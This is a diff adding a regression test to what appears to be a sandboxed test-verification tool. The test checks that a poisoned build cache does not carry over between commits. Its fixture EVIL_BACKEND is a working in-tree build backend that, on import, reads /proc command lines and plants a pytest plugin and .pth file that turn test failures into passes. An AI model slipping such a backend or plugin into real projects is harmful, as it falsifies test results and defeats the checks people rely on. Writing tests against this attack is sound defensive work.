@@ -247,3 +247,113 @@ def test_fork_bombs_disk_fills_and_memory_hogs_end_as_findings_naming_their_limi
         in limited["Repository code hit the sandbox's processes limit"]["description"]
     )
     assert all(i["severity"] == 8 for i in limited.values())
+
+
+# -- poisoned builds --------------------------------------------------------------------------
+
+# An in-tree build backend (PEP 517 backend-path) that wraps setuptools and, on import, plants a
+# pytest plugin turning failures into passes in the env it is building: found as the installer's
+# `--python` on its command line, as any process in the box can read.
+EVIL_BACKEND = '''\
+import glob
+import os
+
+from setuptools import build_meta as _setuptools
+from setuptools.build_meta import *  # noqa: F401,F403
+
+PLUGIN = """
+import pytest
+
+
+@pytest.hookimpl(hookwrapper=True)
+def pytest_runtest_makereport(item, call):
+    outcome = yield
+    report = outcome.get_result()
+    if report.failed:
+        report.outcome = "passed"
+"""
+
+
+def _plant():
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as fh:
+                argv = fh.read().split(b"\\0")
+        except OSError:
+            continue
+        if b"--python" not in argv:
+            continue
+        venv = os.path.dirname(os.path.dirname(argv[argv.index(b"--python") + 1].decode()))
+        for site in glob.glob(venv + "/lib/python*/site-packages"):
+            try:
+                with open(site + "/evil_plugin.py", "w") as fh:
+                    fh.write(PLUGIN)
+                with open(site + "/evil_plugin.pth", "w") as fh:
+                    fh.write("import os; os.environ['PYTEST_PLUGINS'] = 'evil_plugin'\\n")
+            except OSError:
+                pass
+
+
+_plant()
+'''
+CLEAN_BACKEND = "from setuptools.build_meta import *  # noqa: F401,F403\n"
+BUILT_IN_TREE = """\
+[build-system]
+requires = ["setuptools>=61"]
+build-backend = "backend"
+backend-path = ["_build"]
+
+[project]
+name = "victim"
+version = "0"
+
+[tool.setuptools]
+py-modules = ["calc"]
+
+[tool.pytest.ini_options]
+testpaths = ["tests"]
+"""
+
+
+def verify_failures(repo: Repo, cache: Path, out: Path) -> tuple[int, list[str]]:
+    """verify-dag's exit code and failed tests for the branch of ``repo``, on ``cache``."""
+    proc = subprocess.run(
+        [*CLI, "verify", str(repo.path), *BRANCH, "--format=json", f"--output={out}"],
+        capture_output=True,
+        text=True,
+        env={**os.environ, "VERIFY_DAG_CACHE": str(cache)},
+        timeout=600,
+    )
+    assert out.is_file(), proc.stderr
+    doc = json.loads(out.read_text(encoding="utf-8"))
+    return proc.returncode, sorted(
+        i["title"] for i in doc["issues"] if i["title"].startswith("Test failed")
+    )
+
+
+def test_a_build_backend_cannot_poison_the_env_a_later_commit_runs_in(tmp_path: Path) -> None:
+    """A commit that changes only its in-tree build backend plants a plugin in the env it
+    builds; the next commit restores the backend and breaks a test. Its run must fail as it
+    does on a clean cache: the backend is part of the env's key, so the planted env is never
+    the next commit's."""
+    repo = make_repo(tmp_path / "victim")
+    repo.write("pyproject.toml", BUILT_IN_TREE)
+    repo.write("_build/backend.py", CLEAN_BACKEND)
+    repo.write("calc.py", "def add(a, b):\n    return a + b\n")
+    repo.write(
+        "tests/test_calc.py", "import calc\n\n\ndef test_add():\n    assert calc.add(1, 2) == 3\n"
+    )
+    repo.commit("base")
+    repo.git("tag", "base")
+    repo.write("_build/backend.py", EVIL_BACKEND)
+    repo.commit("only the build backend changes")
+    cache = tmp_path / "cache"
+    verify_failures(repo, cache, tmp_path / "poisoning.json")
+
+    repo.write("_build/backend.py", CLEAN_BACKEND)
+    repo.write("calc.py", "def add(a, b):\n    return a - b\n")
+    repo.commit("backend restored, add broken")
+    later = verify_failures(repo, cache, tmp_path / "later.json")
+    control = verify_failures(repo, tmp_path / "clean-cache", tmp_path / "control.json")
+    assert control == (1, ["Test failed: tests/test_calc.py::test_add"])
+    assert later == control
